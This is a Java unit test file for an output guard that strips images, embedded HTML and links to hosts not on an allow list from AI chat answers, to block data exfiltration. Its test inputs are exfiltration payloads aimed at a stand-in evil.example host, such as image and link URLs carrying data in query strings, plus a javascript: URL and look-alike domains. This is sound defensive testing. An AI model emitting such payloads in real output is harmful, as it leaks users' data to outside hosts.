package io.gatehouse.governance.guardrail;

import static org.assertj.core.api.Assertions.assertThat;

import io.gatehouse.governance.OutputGuard;
import org.junit.jupiter.api.Test;

/**
 * Always on, for every role: the answer's Markdown loses images, embedded HTML and links to sites not on the
 * allowed list, so neither the chat page nor an API client renders something that sends data out.
 */
class LinkAndImageRemovalTest {

    private final TextGuard guard = Policies.defaults().allowLinksTo("docs.example.com").guard();

    @Test
    void everyMarkdownImageGoes() {
        OutputGuard.Guarded out = guard.guard("Chart: ![sales](https://evil.example/p.png?d=ACME-1200) and ![x][ref] done");

        assertThat(out.text()).isEqualTo("Chart:  and  done");
        assertThat(out.removals()).containsExactly("2 images");
    }

    @Test
    void aLinkToASiteNotAllowedKeepsItsTextOnly() {
        OutputGuard.Guarded out = guard.guard("See [the report](https://evil.example/?q=secret \"Report\") or [docs](https://docs.example.com/a).");

        assertThat(out.text()).isEqualTo("See [the report] or [docs](https://docs.example.com/a).");
        assertThat(out.removals()).containsExactly("1 link to a site not on the allowed list");
    }

    @Test
    void bareUrlsAutolinksAndReferencesToOtherSitesGo() {
        OutputGuard.Guarded out = guard.guard("Go to https://evil.example/x?d=1. Or <https://evil.example/y>. Or www.evil.example/z, "
                + "but https://api.docs.example.com/v1 is fine.\n[r]: https://evil.example/ref\n");

        assertThat(out.text()).isEqualTo("Go to [removed by policy]. Or [removed by policy]. Or [removed by policy], "
                + "but https://api.docs.example.com/v1 is fine.\n[r]: \n");
        assertThat(out.removals()).containsExactly("4 links to sites not on the allowed list");
    }

    @Test
    void linksThatOnlyLookAllowedGo() {
        for (String url : new String[] {"https://docs.example.com.evil.example/", "https://user@docs.example.com/", "javascript:alert(1)",
                "https://evil.example\\@docs.example.com/", "http://docs.example.com:99999/", "data:text/html,hi"}) {
            assertThat(guard.guard("[click](" + url + ")").text()).as(url).isEqualTo("[click]");
        }
    }

    @Test
    void embeddedHtmlElementsGo() {
        OutputGuard.Guarded out = guard.guard("A <img src=https://evil.example/i.png> B <iframe src=\"https://evil.example\"></iframe> "
                + "C <a href=\"https://evil.example\">x</a> D <a href=\"https://docs.example.com\">ok</a>");

        assertThat(out.text()).isEqualTo("A  B  C x</a> D <a href=\"https://docs.example.com\">ok</a>");
        assertThat(out.removals()).containsExactly("1 image", "1 link to a site not on the allowed list", "1 embedded HTML element");
    }

    @Test
    void insideACodeBlockUrlsAreCodeNotLinks() {
        String text = "```\ncurl https://api.example.org/v1\n```\n";

        assertThat(guard.guard(text).text()).isEqualTo(text);
    }
}
